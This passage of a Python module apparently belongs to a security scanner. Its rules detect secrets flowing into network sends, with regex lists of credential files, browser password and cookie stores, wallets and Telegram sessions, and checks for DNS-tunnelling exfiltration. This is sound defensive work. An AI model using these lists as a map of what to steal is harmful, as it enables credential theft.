"""Exfiltration: secrets leaving the machine, and the places stolen data is usually sent.

Two questions, answered separately. *What* is sent: a value that the data-flow engine
labels `sensitive` (the whole environment, files holding keys and credentials, browser
password and cookie stores, the clipboard, typed passwords, the screen) reaching the payload
of a network send. *Where* it goes: destinations that legitimate code rarely hard-codes
(raw public IP addresses, paste sites, chat webhooks, tunnels, URL shorteners).

Precision comes from what counts as a source and as a payload. Using a credential is not
leaking it: a token read from a config file and placed in an `Authorization` header, a
single variable read from the environment, browser cookies passed as `cookies=` to the site
they belong to, a typed password posted to a login endpoint, are all normal. Sending the
whole environment, a private key or a password database anywhere is not.
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import tree_sitter

from ..context import CallSite, Context
from ..flow import SENSITIVE, assigned_value, trace
from ..rule import CallRule, Hit
from ..source import LANGUAGE
from ..statements import WARMERS, module_mentions, per_statement
from ._common import (
    Category,
    Confidence,
    RuleMeta,
    Severity,
    binary_parts,
    bound_call_name,
    cache,
    call_name,
    describe,
    first_argument,
    line_of,
    memoized,
    method_of,
    related_at,
    shorten,
    simple_assignment,
    words,
)
from .download import (
    SHELL_CALLS,
    SHELL_METHODS,
    command_text,
    imports,
    is_process_call,
    process_command,
    render,
    scope_calls,
)

# --------------------------------------------------------------------------------------
# What is sensitive
# --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Kind:
    label: str
    #: browser stores are their own rule
    browser: bool = False
    #: worth a (lower-confidence) finding even without a visible data flow
    very: bool = False


_SSH_KEY = _Kind("an SSH private key", very=True)
_PATH_KINDS: tuple[tuple[re.Pattern[str], _Kind], ...] = (
    (re.compile(r"\.pub$|known_hosts$|/\.ssh/config$|authorized_keys"), _Kind("")),
    (re.compile(r"(?:^|/)id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?$"), _SSH_KEY),
    (re.compile(r"(?:^|/)\.ssh(?:/[^/.][^/]*)?$"), _SSH_KEY),
    (re.compile(r"\.aws/(?:credentials|config)$|\.aws/?$"), _Kind("AWS credentials", very=True)),
    (re.compile(r"/etc/shadow$|/etc/(?:master\.)?passwd$|/etc/sudoers$"), _Kind("")),
    (re.compile(r"(?:^|/)\.?netrc$|_netrc$"), _Kind("a .netrc password file", very=True)),
    (re.compile(r"\.git-credentials$"), _Kind("git credentials", very=True)),
    (re.compile(r"\.pgpass$"), _Kind("a PostgreSQL password file", very=True)),
    (re.compile(r"\.kube/config$"), _Kind("a Kubernetes config", very=True)),
    (re.compile(r"\.docker/config\.json$"), _Kind("Docker registry credentials", very=True)),
    (re.compile(r"\.(?:npmrc|pypirc)$|\.vault-token$"), _Kind("package-registry tokens")),
    (
        re.compile(
            r"\.azure/|gcloud/|(?:^|/)(?:application_default_)?credentials\.(?:json|db)$"
            r"|\.config/\S*credentials"
        ),
        _Kind("cloud credentials"),
    ),
    (re.compile(r"(?:^|/)\.env(?:\.(?!example|sample|template|dist)\w+)?$"), _Kind("a .env file")),
    (
        re.compile(
            r"(?:^|/)(?:Login Data(?: For Account)?|logins\.json|key[34]\.db|signons\.sqlite)$"
        ),
        _Kind("saved passwords", browser=True, very=True),
    ),
    (re.compile(r"(?:^|/)(?:Cookies|cookies\.sqlite)$"), _Kind("cookies", browser=True, very=True)),
    (
        re.compile(r"(?:^|/)(?:Local State|Web Data)$"),
        _Kind("browser secrets", browser=True, very=True),
    ),
    (
        re.compile(r"Local Storage(?:/|$)"),
        _Kind("browser or Discord tokens", browser=True, very=True),
    ),
    (
        re.compile(r"wallet\.dat$|/wallets?(?:/|$)|\.electrum|Exodus/|\.bitcoin"),
        _Kind("a cryptocurrency wallet", very=True),
    ),
    (re.compile(r"\.gnupg|\.keychain|Keychains/"), _Kind("a keyring", very=True)),
    (re.compile(r"(?:^|/)tdata(?:/|$)"), _Kind("a Telegram session", very=True)),
    (re.compile(r"\.(?:bash|zsh|python)_history$"), _Kind("shell history")),
    (
        re.compile(r"\.purple/accounts\.xml$|FileZilla/(?:recentservers|sitemanager)\.xml$"),
        _Kind("saved passwords", very=True),
    ),
)
_SHADOW = _Kind("the system password hashes", very=True)
_PASSWD = _Kind("the system account list")


def classify_path(text: str) -> _Kind | None:
    """What kind of secret a path names, or None (also for public keys and known_hosts)."""
    path = text.replace("\\", "/").rstrip("/")
    if path.endswith(("/etc/shadow", "/etc/master.passwd")):
        return _SHADOW
    if path.endswith(("/etc/passwd", "/etc/sudoers")):
        return _PASSWD
    for pattern, kind in _PATH_KINDS:
        if pattern.search(path):
            return kind if kind.label else None
    return None


_PATH_BUILDERS = words(
    """
    os.path.join os.path.expanduser os.path.expandvars os.path.abspath os.path.normpath
    os.path.realpath pathlib.Path pathlib.PurePath pathlib.PosixPath pathlib.WindowsPath Path
    str os.fspath posixpath.join ntpath.join
    """
)
_HOME_CALLS = frozenset({"pathlib.Path.home", "Path.home", "os.path.expanduser"})


def path_root(ctx: Context, node: tree_sitter.Node) -> tree_sitter.Node:
    """The whole path expression a string is part of (`Path.home() / ".ssh" / "id_rsa"`)."""
    current = node
    while current.parent is not None:
        parent = current.parent
        if parent.type in {"concatenated_string", "parenthesized_expression", "interpolation"}:
            current = parent if parent.type != "interpolation" else parent.parent or parent
            continue
        if parent.type == "binary_operator":
            operator = parent.child_by_field_name("operator")
            if operator is not None and operator.type in {"/", "+"}:
                current = parent
                continue
        if parent.type == "argument_list" and parent.parent is not None:
            call = parent.parent
            if call_name(ctx, call) in _PATH_BUILDERS or method_of(ctx, call) == "joinpath":
                current = call
                continue
        break
    return current


def path_text(ctx: Context, node: tree_sitter.Node, depth: int = 0) -> str:
    """A path expression as text: unknown parts become `*`, the home directory `~`."""
    if depth > 8:
        return "*"
    value = ctx.const(node)
    if isinstance(value, str):
        return value
    kind = node.type
    if kind == "binary_operator":
        operands = binary_parts(node)
        if operands is None:
            return "*"
        operator, left, right = operands
        glue = "/" if operator == "/" else ""
        return path_text(ctx, left, depth + 1) + glue + path_text(ctx, right, depth + 1)
    if kind == "call":
        name = call_name(ctx, node)
        arguments = node.child_by_field_name("arguments")
        args = (
            []
            if arguments is None
            else [a for a in arguments.named_children if a.type != "comment"]
        )
        if name in _HOME_CALLS and not args:
            return "~"
        if name in {"os.getenv", "os.environ.get"} and args:
            return _env_dir(ctx.const(args[0]))
        if name in _PATH_BUILDERS:
            return "/".join(path_text(ctx, a, depth + 1) for a in args) or "*"
        if method_of(ctx, node) == "joinpath":
            receiver = ctx.call_site(node).receiver
            base = "*" if receiver is None else path_text(ctx, receiver, depth + 1)
            return "/".join([base, *(path_text(ctx, a, depth + 1) for a in args)])
        return "*"
    if kind == "subscript":
        value_node = node.child_by_field_name("value")
        index = node.child_by_field_name("subscript")
        if (
            value_node is not None
            and index is not None
            and ctx.qualname(value_node) == "os.environ"
        ):
            return _env_dir(ctx.const(index))
        return "*"
    if kind == "string":
        parts = []
        for child in node.named_children:
            if child.type == "string_content":
                parts.append(ctx.text(child))
            elif child.type == "interpolation":
                expression = child.child_by_field_name("expression")
                parts.append("*" if expression is None else path_text(ctx, expression, depth + 1))
        return "".join(parts)
    if kind == "parenthesized_expression" and node.named_children:
        return path_text(ctx, node.named_children[0], depth + 1)
    if kind == "identifier" and depth < 4:
        bound = assigned_value(ctx, node)
        return "*" if bound is None else path_text(ctx, bound, depth + 2)
    return "*"


def _env_dir(variable: str | bytes | None) -> str:
    """`~` for $HOME, `%APPDATA%` for the other directory variables."""
    if not isinstance(variable, str):
        return "*"
    return "~" if variable in {"HOME", "USERPROFILE"} else f"%{variable}%"


# sources that are not paths
_ENVIRONMENT = "environment"
_CREDENTIAL = "credential"
_BROWSER = "browser"
_CLIPBOARD = "clipboard"
_SECRET = "secret"
_SCREEN = "screen"

_CALL_SOURCES: dict[str, tuple[str, str]] = {
    "os.environ.copy": (_ENVIRONMENT, "the whole environment"),
    "os.environ.items": (_ENVIRONMENT, "the whole environment"),
    "os.environ.values": (_ENVIRONMENT, "the whole environment"),
    "pyperclip.paste": (_CLIPBOARD, "the clipboard"),
    "clipboard.paste": (_CLIPBOARD, "the clipboard"),
    "win32clipboard.GetClipboardData": (_CLIPBOARD, "the clipboard"),
    "PIL.ImageGrab.grabclipboard": (_CLIPBOARD, "the clipboard"),
    "getpass.getpass": (_SECRET, "a typed password"),
    "keyring.get_password": (_SECRET, "a password from the keyring"),
    "keyring.get_credential": (_SECRET, "a credential from the keyring"),
    "keyring.get_keyring": (_SECRET, "the keyring"),
    "win32crypt.CryptUnprotectData": (_BROWSER, "saved passwords (decrypted)"),
    "PIL.ImageGrab.grab": (_SCREEN, "a screenshot"),
    "pyscreenshot.grab": (_SCREEN, "a screenshot"),
    "pyautogui.screenshot": (_SCREEN, "a screenshot"),
    "mss.mss": (_SCREEN, "a screenshot"),
}


@dataclass(frozen=True)
class _Source:
    category: str
    what: str
    node: tree_sitter.Node
    display: str


def classify_source(ctx: Context, node: tree_sitter.Node) -> _Source | None:
    """What secret a data-flow source is, if it is one this family reports."""
    if node.type == "attribute" and ctx.qualname(node) == "os.environ":
        return _Source(_ENVIRONMENT, "the whole environment", node, "os.environ")
    if node.type == "call":
        name = call_name(ctx, node) or ""
        if name in _CALL_SOURCES:
            category, what = _CALL_SOURCES[name]
            return _Source(category, what, node, describe(ctx, node))
        if name.startswith("browser_cookie3."):
            return _Source(_BROWSER, "browser cookies", node, describe(ctx, node))
        if method_of(ctx, node) == "clipboard_get":
            return _Source(_CLIPBOARD, "the clipboard", node, describe(ctx, node))
        return None
    if node.type in {"string", "concatenated_string"}:
        root = path_root(ctx, node)
        text = path_text(ctx, root)
        kind = classify_path(text)
        if kind is None:
            return None
        category = _BROWSER if kind.browser else _CREDENTIAL
        return _Source(category, kind.label, root, text)
    return None


# --------------------------------------------------------------------------------------
# Where data leaves: network sends and their payloads
# --------------------------------------------------------------------------------------

_HTTP_VERBS = frozenset({"get", "post", "put", "patch", "delete", "head", "options", "request"})
#: verbs that trigger on any receiver (`session.post(...)`); `.get(...)` is left out: it is
#: mostly `dict.get`, and a session's GET sends nothing but its URL
_SEND_VERBS = frozenset({"post", "put", "patch", "request"})
_REQUEST_OBJECTS = frozenset({"urllib.request.Request", "urllib2.Request"})
_HTTP_FUNCTIONS = frozenset(
    f"{library}.{verb}" for library in ("requests", "httpx", "requests.api") for verb in _HTTP_VERBS
) | words(
    """
    aiohttp.request urllib.request.urlopen urllib2.urlopen urllib.urlopen urllib3.request
    urllib.request.Request urllib2.Request httpx.stream
    """
)
_DNS_FUNCTIONS = words(
    """
    socket.gethostbyname socket.gethostbyname_ex socket.getaddrinfo dns.resolver.resolve
    dns.resolver.query
    """
)
_PAYLOAD_KEYWORDS = frozenset(
    {"data", "json", "params", "files", "content", "body", "fields", "headers", "cookies", "auth"}
)
#: verbs whose second positional argument is the body (`requests.post(url, data)`)
_BODY_SECOND = frozenset({"post", "put", "patch", "urlopen", "Request", "get"})
_SOCKET_NAME = re.compile(r"^(?:s|sock|socket|ws|websocket|\w+_sock(?:et)?|sock_\w+)$")
_SFTP_NAME = re.compile(r"sftp|scp", re.IGNORECASE)
_CLIENT_NAME = re.compile(r"session|client|http|pool|conn|^s$", re.IGNORECASE)
_URLISH_NAME = re.compile(r"url|uri|endpoint|hook|host|server|api|c2|target|addr", re.IGNORECASE)
_CLIENTS = words(
    """
    requests.Session requests.session httpx.Client httpx.AsyncClient aiohttp.ClientSession
    urllib3.PoolManager http.client.HTTPConnection http.client.HTTPSConnection
    """
)


@dataclass(frozen=True)
class Sink:
    channel: str
    #: (value, slot) pairs: what the call sends, and in which part of the request
    payloads: tuple[tuple[tree_sitter.Node, str], ...]
    url: tree_sitter.Node | None


def _url_like(ctx: Context, node: tree_sitter.Node | None) -> bool:
    """Spelled like a URL: a literal with `://`, or a variable named like one (cheap: this
    runs on every `.get(...)`/`.put(...)` in a project)."""
    if node is None:
        return False
    if node.type in {"string", "concatenated_string", "binary_operator"}:
        return b"://" in ctx.source[node.start_byte : node.end_byte] or bool(
            _URLISH_NAME.search(ctx.text(node))
        )
    return node.type in {"identifier", "attribute"} and bool(_URLISH_NAME.search(ctx.text(node)))


def _positional(
    site: CallSite, start: int, slots: tuple[str, ...]
) -> list[tuple[tree_sitter.Node, str]]:
    return [(arg, slot) for arg, slot in zip(site.args[start:], slots, strict=False)]


def _http_payloads(site: CallSite, verb: str) -> list[tuple[tree_sitter.Node, str]]:
    payloads = [(v, k) for k, v in site.keywords.items() if k in _PAYLOAD_KEYWORDS]
    if verb == "request":
        payloads += _positional(site, 2, ("data", "headers"))
    elif verb in _BODY_SECOND:
        payloads += _positional(site, 1, ("params" if verb == "get" else "data", "headers"))
    return payloads


def sink_of(ctx: Context, site: CallSite) -> Sink | None:
    """The network send a call performs, with its payloads; None if it is not one."""
    return memoized(ctx, "sinks", site.node, lambda: _sink(ctx, site))


def _sink(ctx: Context, site: CallSite) -> Sink | None:
    name = site.name or ""
    method = site.method or ""
    receiver = site.receiver
    if name in _HTTP_FUNCTIONS:
        verb = name.rsplit(".", 1)[-1]
        url = site.arg(1, "url") if verb == "request" else site.arg(0, "url")
        if url is not None and bound_call_name(ctx, url) in _REQUEST_OBJECTS:
            url = None  # urlopen(Request(...)): the Request call reports its own payload
        return Sink("http", tuple(_http_payloads(site, verb)), url)
    if name in _DNS_FUNCTIONS:
        host = site.arg(0, "host") or site.arg(0, "qname") or site.arg(0, "hostname")
        return None if host is None else Sink("dns", ((host, "hostname"),), None)
    if name == "discord_webhook.DiscordWebhook":
        return Sink(
            "chat",
            tuple((v, k) for k, v in site.keywords.items() if k != "url"),
            site.arg(0, "url"),
        )
    if receiver is None:
        return None
    if method in _HTTP_VERBS:
        url = site.arg(1, "url") if method == "request" else site.arg(0, "url")
        if _url_like(ctx, url) or (
            _CLIENT_NAME.search(ctx.text(receiver)) and bound_call_name(ctx, receiver) in _CLIENTS
        ):
            payloads = _http_payloads(site, method)
            return Sink("http", tuple(payloads), url) if payloads or method == "get" else None
    if method in {"sendall", "sendto", "sendfile"}:
        data = site.arg(0)
        return None if data is None else Sink("socket", ((data, "data"),), None)
    if method == "send":
        if not _SOCKET_NAME.match(ctx.text(receiver)):
            if not imports(ctx, ("socket", "ssl", "websocket", "websockets")):
                return None
            bound = bound_call_name(ctx, receiver) or ""
            if not bound.startswith(("socket.", "ssl.", "websocket")):
                return None
        data = site.arg(0)
        return None if data is None else Sink("socket", ((data, "data"),), None)
    if method == "sendmail":
        message = site.arg(2, "msg")
        return None if message is None else Sink("email", ((message, "data"),), None)
    if method in {"send_message", "send_document", "sendDocument", "send_photo", "sendPhoto"}:
        args = [(a, "data") for a in site.args] + [(v, "data") for v in site.keywords.values()]
        return (
            Sink("email" if method == "send_message" else "chat", tuple(args), None)
            if args
            else None
        )
    if method in {"storbinary", "storlines"}:
        data = site.arg(1, "fp")
        return None if data is None else Sink("ftp", ((data, "data"),), None)
    if method in {"put", "putfo"}:
        if not _SFTP_NAME.search(ctx.text(receiver)) and not (
            imports(ctx, ("paramiko", "scp"))
            and (bound_call_name(ctx, receiver) or "").endswith(
                ("open_sftp", "SFTPClient.from_transport", "SCPClient")
            )
        ):
            return None
        data = site.arg(0)
        return None if data is None else Sink("sftp", ((data, "data"),), None)
    if method in {"upload_file", "upload_fileobj"}:
        data = site.arg(0, "Filename") or site.arg(0, "Fileobj")
        return None if data is None else Sink("cloud storage", ((data, "data"),), None)
    if method == "put_object":
        body = site.keywords.get("Body")
        return None if body is None else Sink("cloud storage", ((body, "data"),), None)
    if (
        method in {"resolve", "query"}
        and imports(ctx, ("dns",))
        and bound_call_name(ctx, receiver) == "dns.resolver.Resolver"
    ):
        host = site.arg(0, "qname")
        return None if host is None else Sink("dns", ((host, "hostname"),), None)
    return None


_SINK_NAMES = _HTTP_FUNCTIONS | _DNS_FUNCTIONS | {"discord_webhook.DiscordWebhook"}
_SINK_METHODS = _SEND_VERBS | words(
    """
    sendall sendto sendfile send sendmail send_message send_document sendDocument send_photo
    sendPhoto storbinary storlines put putfo upload_file upload_fileobj put_object resolve query
    """
)


# --------------------------------------------------------------------------------------
# Flows from secrets into payloads
# --------------------------------------------------------------------------------------

_SENSITIVE_HINTS = re.compile(
    rb"environ|\.ssh|id_rsa|id_ed25519|id_ecdsa|id_dsa|\.aws|netrc|credentials|\.env|passwd|"
    rb"shadow|sudoers|Login Data|Cookies|cookies\.sqlite|logins\.json|key[34]\.db|Local State|"
    rb"Web Data|Local Storage|wallet|electrum|Exodus|bitcoin|gnupg|keychain|Keychains|tdata|"
    rb"_history|pgpass|kube|docker|npmrc|pypirc|vault-token|azure|gcloud|purple|FileZilla|"
    rb"pyperclip|clipboard|getpass|keyring|browser_cookie3|CryptUnprotectData|ImageGrab|"
    rb"screenshot|mss"
)
_MUTATORS = frozenset(
    {
        "append",
        "extend",
        "update",
        "add",
        "insert",
        "setdefault",
        "attach",
        "set_content",
        "add_attachment",
        "set_payload",
        "write",
        "writelines",
        "writestr",
        "add_field",
    }
)
_MUTATION_QUERY = tree_sitter.Query(
    LANGUAGE,
    """
    (call function: (attribute object: (identifier) @object attribute: (identifier) @method)
          arguments: (argument_list) @arguments) @call
    (assignment left: (subscript value: (identifier) @object) right: (_) @value) @store
    (assignment left: (attribute object: (identifier) @object) right: (_) @value) @store
    """,
)


@dataclass(frozen=True)
class Flow:
    source: _Source
    slot: str
    value: tree_sitter.Node
    narrowed: bool


def _identifiers(node: tree_sitter.Node, limit: int = 40) -> list[tree_sitter.Node]:
    found: list[tree_sitter.Node] = []
    stack = [node]
    while stack and len(found) < limit:
        current = stack.pop()
        if current.type == "identifier":
            found.append(current)
        elif current.type not in {"lambda", "function_definition"}:
            stack.extend(current.named_children)
    return found


def _mutations(ctx: Context, value: tree_sitter.Node, before: int) -> list[tree_sitter.Node]:
    """Values stored into what `value` is built from, before the send: containers filled in
    place (`data["key"] = ...`, `results.append(...)`, `msg.attach(...)`), buffers written by
    an object (`img.save(buf)`, `json.dump(data, buf)`) and files saved then opened for the
    send (`shot.save("s.png")` ... `open("s.png", "rb")`)."""
    scope = ctx.scope_of(value)
    wanted: set[str] = set()
    opened: set[str] = set()
    pending = [value]
    seen = 0
    while pending and seen < 30:
        node = pending.pop()
        seen += 1
        opened |= _opened_files(ctx, node)
        for name in _identifiers(node, 10):
            label = ctx.text(name)
            if label in wanted:
                continue
            wanted.add(label)
            bound = assigned_value(ctx, name)
            if bound is not None and ctx.scope_of(bound) == scope:
                pending.append(bound)
    if not wanted and not opened:
        return []
    extra: list[tree_sitter.Node] = []
    cursor = tree_sitter.QueryCursor(_MUTATION_QUERY)
    cursor.set_byte_range(scope.start_byte, min(before, scope.end_byte))
    for _, captures in cursor.matches(scope):
        obj = captures["object"][0]
        if ctx.text(obj) not in wanted or ctx.scope_of(obj) != scope:
            continue
        if "store" in captures:
            extra.append(captures["value"][0])
        elif ctx.text(captures["method"][0]) in _MUTATORS:
            extra.extend(a for a in captures["arguments"][0].named_children if a.type != "comment")
    for call in scope_calls(ctx, scope):
        if call.start_byte >= before:
            break
        extra.extend(_written_into(ctx, call, wanted, opened))
    return extra


def _written_into(
    ctx: Context, call: tree_sitter.Node, wanted: set[str], opened: set[str]
) -> list[tree_sitter.Node]:
    """What a call writes into one of the `wanted` variables or `opened` files."""
    method = method_of(ctx, call)
    name = call_name(ctx, call)
    if method not in {"save", "dump", "shot"} and name not in _SCREENSHOT_TO_FILE:
        return []
    site = ctx.call_site(call)
    if name in _SCREENSHOT_TO_FILE:
        target = site.arg(0, "imageFilename")
        return [call] if target is not None and _file_key(ctx, target) in opened else []
    receiver = site.receiver
    if method == "shot":
        target = site.keywords.get("output")
        hit = target is not None and _file_key(ctx, target) in opened
        return [receiver] if hit and receiver is not None else []
    for arg in site.args:
        if (arg.type == "identifier" and ctx.text(arg) in wanted) or _file_key(ctx, arg) in opened:
            if method == "save" and receiver is not None:
                return [receiver]
            return site.args[:1] if method == "dump" else []
    return []


_SCREENSHOT_TO_FILE = frozenset({"pyautogui.screenshot", "pyscreenshot.grab_to_file"})
_OPENERS = frozenset({"open", "io.open", "builtins.open"})


def _file_key(ctx: Context, node: tree_sitter.Node) -> str:
    return render(ctx, node) or ctx.text(node)


def _opened_files(ctx: Context, node: tree_sitter.Node) -> set[str]:
    """Paths of the files `open(...)`-ed within an expression."""
    keys: set[str] = set()
    stack = [node]
    while stack and len(keys) < 8:
        current = stack.pop()
        if current.type == "call" and call_name(ctx, current) in _OPENERS:
            first = first_argument(current)
            if first is not None:
                keys.add(_file_key(ctx, first))
        elif current.type not in {"lambda", "function_definition"}:
            stack.extend(current.named_children)
    return keys


def _narrowed(ctx: Context, path: list[tree_sitter.Node]) -> bool:
    """The value passed through `x["KEY"]` or `x.get("KEY")`: one field was picked out."""
    for node in path[:-1]:
        if node.type == "subscript":
            index = node.child_by_field_name("subscript")
            if index is not None and isinstance(ctx.const(index), str):
                return True
        elif node.type == "call" and method_of(ctx, node) in {"get", "getenv", "get_secret"}:
            first = first_argument(node)
            if first is not None and isinstance(ctx.const(first), str):
                return True
    return False


def flows(ctx: Context, site: CallSite) -> list[Flow]:
    """Secrets that reach the payload of the network send `site`, one per kind of secret."""
    return memoized(ctx, "flows", site.node, lambda: _send_flows(ctx, site))


def _send_flows(ctx: Context, site: CallSite) -> list[Flow]:
    found: list[Flow] = []
    sink = sink_of(ctx, site)
    if sink is not None and _may_hold_secrets(ctx, ctx.scope_of(site.node)):
        candidates = list(sink.payloads)
        if sink.url is not None:
            candidates.append((sink.url, "url"))
        categories: set[str] = set()
        for value, slot in candidates:
            values = (
                [value, *_mutations(ctx, value, site.node.start_byte)] if slot != "url" else [value]
            )
            for item in values:
                found.extend(
                    _flows_from(ctx, item, slot, value if slot == "url" else None, categories)
                )
    return found


def _flows_from(
    ctx: Context,
    value: tree_sitter.Node,
    slot: str,
    url: tree_sitter.Node | None,
    categories: set[str],
) -> Iterator[Flow]:
    taint = ctx.taint(value)
    if taint is None or SENSITIVE not in taint.labels:
        return
    for _ in range(6):
        classified: dict[int, _Source] = {}
        path = trace(ctx, value, SENSITIVE, _acceptor(ctx, url, categories, classified))
        if not path:
            return
        source = classified[path[-1].id]
        categories.add(source.category)
        yield Flow(source, slot, value, _narrowed(ctx, path))


def _acceptor(
    ctx: Context,
    url: tree_sitter.Node | None,
    categories: set[str],
    classified: dict[int, _Source],
) -> Callable[[tree_sitter.Node], bool]:
    """Accept sources this family reports, of a kind not yet found at this send."""

    def accept(node: tree_sitter.Node) -> bool:
        if (
            url is not None
            and node.type == "string"
            and url.start_byte <= node.start_byte < url.end_byte
        ):
            return False  # a constant URL such as ".../credentials" is not a secret
        source = classify_source(ctx, node)
        if source is None or source.category in categories:
            return False
        classified[node.id] = source
        return True

    return accept


def _may_hold_secrets(ctx: Context, scope: tree_sitter.Node) -> bool:
    """Can any value in the scope be labelled sensitive? Only if a source is spelled in it, or
    in a module-level variable it mentions; most sends in most code stop here."""
    return memoized(ctx, "hints", scope, lambda: _mentions_secrets(ctx, scope))


def _mentions_secrets(ctx: Context, scope: tree_sitter.Node) -> bool:
    if _SENSITIVE_HINTS.search(ctx.source, scope.start_byte, scope.end_byte) is not None:
        return True
    if scope.type == "module":
        return False
    body = ctx.source[scope.start_byte : scope.end_byte]
    return any(re.search(rb"\b%s\b" % n, body) for n in _module_secret_names(ctx))


def _module_secret_names(ctx: Context) -> list[bytes]:
    """Names of module-level variables whose value mentions a secret source."""
    memo = cache(ctx, "hints")
    if "names" not in memo:
        source = ctx.source

        def secret_name(child: tree_sitter.Node) -> bytes | None:
            pair = simple_assignment(child)
            if pair is None:
                return None
            left, right = pair
            if not _SENSITIVE_HINTS.search(source, left.start_byte, right.end_byte):
                return None
            return re.escape(source[left.start_byte : left.end_byte])

        memo["names"] = [
            name for _, name in per_statement(ctx, "secret_names", secret_name) if name
        ]
    names_found: list[bytes] = memo["names"]
    return names_found


#: payload slots where a credential is *used* (authentication), not leaked
_USE_SLOTS = frozenset({"auth", "cookies", "headers"})
_AUTH_URL = re.compile(r"log_?in|auth|token|session|sign_?in|sign-in|oauth|password|account", re.I)


def _reportable(ctx: Context, site: CallSite, flow: Flow) -> bool:
    category = flow.source.category
    if flow.slot == "auth":
        return False
    if category == _ENVIRONMENT:
        return not flow.narrowed
    if category == _CREDENTIAL:
        return flow.slot not in _USE_SLOTS and not flow.narrowed
    if category == _BROWSER:
        return flow.slot not in {"cookies", "headers"}
    if category == _SECRET:
        if flow.slot in _USE_SLOTS:
            return False
        sink = sink_of(ctx, site)
        url = None if sink is None or sink.url is None else render(ctx, sink.url)
        if url is None or sink is None or sink.channel != "http":
            return True
        return not (_auth_endpoint(url) or _names_service(ctx, flow.source.node, url))
    return True


#: a host whose first label says it signs people in (`login.microsoftonline.com`)
_AUTH_HOST = re.compile(r"^(?:log_?in|auth|sso|oauth2?|accounts?|sign_?in|idp?|identity)\.", re.I)


def _auth_endpoint(url: str) -> bool:
    """A login or token endpoint, judged by the path: a look-alike host such as
    `sso-verify.acme-auth-check.com` is anyone's to register."""
    _, separator, rest = url.partition("://")
    if not separator:
        return _AUTH_URL.search(url) is not None  # host unknown (`{base}/login`)
    host, _, path = rest.partition("/")
    return _AUTH_URL.search(path) is not None or _AUTH_HOST.match(host) is not None


_GENERIC_WORDS = frozenset(
    {"enter", "your", "password", "passphrase", "token", "secret", "key", "api", "the", "for"}
)


def _names_service(ctx: Context, source: tree_sitter.Node, url: str) -> bool:
    """`keyring.get_password("pushover", ...)` sent to api.pushover.net: the secret goes to
    the service it belongs to (judged by the service name or the prompt's words)."""
    arguments = source.child_by_field_name("arguments")
    first = arguments.named_children[0] if arguments and arguments.named_children else None
    label = None if first is None else ctx.const(first)
    if not isinstance(label, str):
        return False
    host = url.split("://", 1)[-1].split("/", 1)[0].lower()
    words = {w for w in re.findall(r"[a-z0-9]{4,}", label.lower()) if w not in _GENERIC_WORDS}
    return any(word in host for word in words)


_CHANNEL_NAMES = {
    "http": "HTTP",
    "dns": "a DNS lookup",
    "socket": "a socket",
    "email": "e-mail",
    "ftp": "FTP",
    "sftp": "SFTP",
    "cloud storage": "a cloud storage upload",
    "chat": "a chat service",
}


#: how much of a source, host or path a message shows
_SHOWN = 60


def _flow_check(category: str) -> Callable[[Context, CallSite], Iterator[Hit]]:
    def check(ctx: Context, site: CallSite) -> Iterator[Hit]:
        for flow in flows(ctx, site):
            if flow.source.category != category or not _reportable(ctx, site, flow):
                continue
            sink = sink_of(ctx, site)
            source = flow.source
            yield Hit.at(
                site.node,
                related=(related_at(source.node, f"source: {source.what}"),),
                what=source.what,
                source=shorten(source.display, _SHOWN),
                line=str(line_of(ctx, source.node)),
                sink=site.name or site.method or "call",
                channel=_CHANNEL_NAMES.get(sink.channel if sink else "", "the network"),
            )
            return

    return check


# --------------------------------------------------------------------------------------
# DNS tunnelling
# --------------------------------------------------------------------------------------

_ENCODERS = re.compile(
    r"\.hex\(|hexlify|b(?:16|32|64|85)encode|urlsafe_b64encode|encodebytes|\.encode\(\s*['\"]hex"
)
_LEADING_HOLE = re.compile(r"^\{[^}]*\}(?:\.\{[^}]*\})*\.((?:[a-z0-9-]+\.)+[a-z]{2,})\.?$", re.I)


def _expression_text(ctx: Context, node: tree_sitter.Node, depth: int = 0) -> str:
    """The text of an expression and of the assignments that built its variables."""
    parts = [ctx.text(node)]
    if depth < 3:
        for name in _identifiers(node, 8):
            bound = assigned_value(ctx, name)
            if bound is not None:
                parts.append(_expression_text(ctx, bound, depth + 1))
    return "\n".join(parts)


def _dns_exfiltration(ctx: Context, site: CallSite) -> Iterator[Hit]:
    sink = sink_of(ctx, site)
    if sink is None or sink.channel != "dns" or not sink.payloads:
        return
    host_node = sink.payloads[0][0]
    host = render(ctx, host_node)
    if host is None:
        return
    for flow in flows(ctx, site):
        if flow.source.category != _SECRET or not flow.narrowed:
            source = flow.source
            yield Hit.at(
                site.node,
                related=(related_at(source.node, "source"),),
                sink=site.name or site.method or "lookup",
                what=f"{source.what} (line {line_of(ctx, source.node)})",
                host=shorten(host, _SHOWN),
            )
            return
    match = _LEADING_HOLE.match(host)
    if match is None or not _ENCODERS.search(_expression_text(ctx, host_node)):
        return
    yield Hit.at(
        site.node,
        sink=site.name or site.method or "lookup",
        what="encoded data",
        host=shorten(host, _SHOWN),
    )


# --------------------------------------------------------------------------------------
# A very sensitive file read next to a send (no visible flow)
# --------------------------------------------------------------------------------------

_VERY_HINTS = re.compile(
    rb"id_|\.ssh|\.aws|Login Data|Cookies|cookies\.sqlite|logins\.json|key[34]\.db|shadow|wallet|"
    rb"Local State|Local Storage|Web Data|\.git-credentials|\.kube|\.docker|Keychain|keychain|"
    rb"\.gnupg|tdata|Exodus|electrum|bitcoin|netrc|pgpass|purple|FileZilla"
)
_STRINGS = tree_sitter.Query(LANGUAGE, "(string) @string")
_MESSAGE_CALLS = re.compile(
    r"^(?:print|warnings\.warn|logging\.\w+|\w*(?:log|logger|LOG|LOGGER)\.\w+|\w*(?:Error|Exception)"
    r"|.*\.(?:debug|info|warning|error|exception|critical|format|write))$"
)


#: calls that look at a path without reading the file
_NOT_READING = (
    "path.exists",
    "path.isfile",
    "path.isdir",
    "path.getsize",
    "path.getmtime",
    ".exists",
    ".is_file",
    "os.stat",
    ".stat",
    "os.access",
)


#: where a key file is *used* to authenticate, not read to be shipped
_KEY_USE = re.compile(
    r"^(?:key_?file(?:name)?|pkey|identity_?file|ssh_key|private_key_(?:file|path)|certfile|"
    r"client_cert|cert_?file|ssl_keyfile)$",
    re.IGNORECASE,
)
_KEY_USE_TEXT = (
    r"(?:key_?file(?:name)?|pkey|identity_?file|ssh_key|private_key_(?:file|path)|certfile|"
